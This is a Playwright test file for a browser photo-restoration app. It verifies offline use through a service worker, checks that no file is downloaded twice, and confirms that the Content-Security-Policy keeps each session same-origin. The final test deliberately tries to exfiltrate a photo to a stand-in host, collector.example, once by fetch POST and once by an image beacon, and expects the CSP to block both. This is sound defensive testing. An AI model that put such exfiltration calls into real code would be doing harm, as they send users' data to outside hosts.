// Offline and privacy: after one visit the service worker has precached the app, onnxruntime's
// .wasm files and the models, so a reload with the network off still restores a photo; and a
// whole session sends nothing to any other origin (the CSP would refuse it anyway).
import { expect, test, type Page } from '@playwright/test';
import { perFile, startLinkProxy } from '../tools/bench/linkProxy';
import { AppPage, expectRestored, SAMPLE_PATH } from './fixtures/app';

const STROKE: [number, number][] = [[215, 128], [250, 124], [290, 130]];

async function restoreSample(app: AppPage) {
  await app.upload(SAMPLE_PATH);
  await app.paint(STROKE, 512, 512);
  await app.clickRestore();
  await expectRestored(app.page);
  await expect(app.page.getByTestId('error')).toHaveCount(0);
}

/** Console lines in which the browser reports a Content-Security-Policy violation. */
function cspViolations(page: Page): string[] {
  const seen: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) seen.push(m.text());
  });
  return seen;
}

test.describe('offline', () => {
  // The suite blocks service workers by default; this test is about one.
  test.use({ serviceWorkers: 'allow' });

  test('after one visit, a reload with the network off still restores', async ({ page, context }) => {
    const app = new AppPage(page);
    await app.open('?ep=wasm');
    // The first visit installs the service worker; "ready" means its precache (app, ORT, models) is complete.
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
    });
    const modelsCached = await page.evaluate(async () => (await caches.keys()).some((k) => k.includes('precache')));
    expect(modelsCached).toBe(true);

    await context.setOffline(true);
    const reached: string[] = [];
    context.on('requestfailed', (r) => reached.push(`${r.url()} ${r.failure()?.errorText}`));
    await page.reload();
    await expect(page.getByTestId('backend')).not.toHaveText(/Starting/);
    // Still cross-origin isolated when served by the service worker: WASM keeps its threads.
    await expect(page.getByTestId('backend')).toContainText(/WASM · [2-9] threads/);
    await restoreSample(app);
    expect(reached).toEqual([]);
    await app.shot('offline-restored.png');
  });

  // Each file has one owner (vite.config.ts): the precache takes the hashed and versioned files
  // through the HTTP cache, the workers keep the .wasm and the graphs. The favicon, registerSW.js
  // and onnxruntime's .mjs glue used to cross the network twice on a first visit.
  test('a first visit downloads no file twice, the service worker\'s precache included', async ({ page, baseURL }) => {
    // every response the page, its workers and its service worker get crosses this counting proxy
    const proxy = await startLinkProxy(new URL(baseURL!).origin, 4199);
    try {
      await page.goto(`${proxy.origin}/?ep=wasm&manualCrop`);
      const app = new AppPage(page);
      await expect(page.getByTestId('backend')).not.toHaveText(/Starting/);
      await restoreSample(app);
      await page.evaluate(async () => void (await navigator.serviceWorker.ready));
      await expect.poll(() => page.evaluate(async () => (await caches.keys()).some((k) => k.includes('precache')))).toBe(true);
      await page.waitForTimeout(1000);
      const files = perFile(proxy.transfers);
      expect(files.map((f) => f.path)).toEqual(expect.arrayContaining(['/models/prior.onnx', '/sw.js']));
      expect(files.filter((f) => f.requests > 1).map((f) => f.path)).toEqual([]);
    } finally {
      await proxy.close();
    }
  });
});

test('a whole session makes no request to another origin, and the CSP refuses any attempt', async ({ page, context, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const requests: string[] = [];
  context.on('request', (r) => requests.push(r.url()));
  const violations = cspViolations(page);
  const app = new AppPage(page);

  const response = await page.goto('/?ep=wasm');
  const header = response?.headers()['content-security-policy'] ?? '';
  expect(header).toContain("default-src 'self'");
  expect(header).not.toMatch(/https?:\/\//);
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', /connect-src 'self'/);
  await expect(page.getByTestId('backend')).not.toHaveText(/Starting/);
  await restoreSample(app);
  await page.getByTestId('tab-compare').click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download').click()]);
  expect(download.suggestedFilename()).toMatch(/astronaut-restored/);
  expect(violations, 'the app itself must not trip its own CSP').toEqual([]);
  const foreign = requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith('blob:') && !u.startsWith('data:'));
  expect(foreign, 'requests to another origin during the session').toEqual([]);
  expect(requests.length).toBeGreaterThan(10);

  const blocked: string[] = [];
  context.on('requestfailed', (r) => {
    if (r.url().includes('collector.example')) blocked.push(`${r.url()} ${r.failure()?.errorText}`);
  });

  // Code that tried to send the photo elsewhere would be refused by the browser, before any request.
  const attempts = await page.evaluate(async () => {
    const results: string[] = [];
    try {
      await fetch('https://collector.example/upload', { method: 'POST', body: 'photo' });
      results.push('fetch sent');
    } catch {
      results.push('fetch refused');
    }
    const img = new Image();
    const loaded = new Promise<string>((r) => {
      img.onload = () => r('image sent');
      img.onerror = () => r('image refused');
    });
    img.src = 'https://collector.example/pixel.gif';
    results.push(await loaded);
    return results;
  });
  expect(attempts).toEqual(['fetch refused', 'image refused']);
  expect(violations.length).toBeGreaterThanOrEqual(2);
  // Chromium may list a refused request before refusing it; it must then fail as blocked by the CSP.
  await expect.poll(() => blocked.length).toBeGreaterThanOrEqual(1);
  expect(blocked.filter((b) => !/csp/i.test(b)), `refused requests: ${blocked.join(", ")}`).toEqual([]);
});
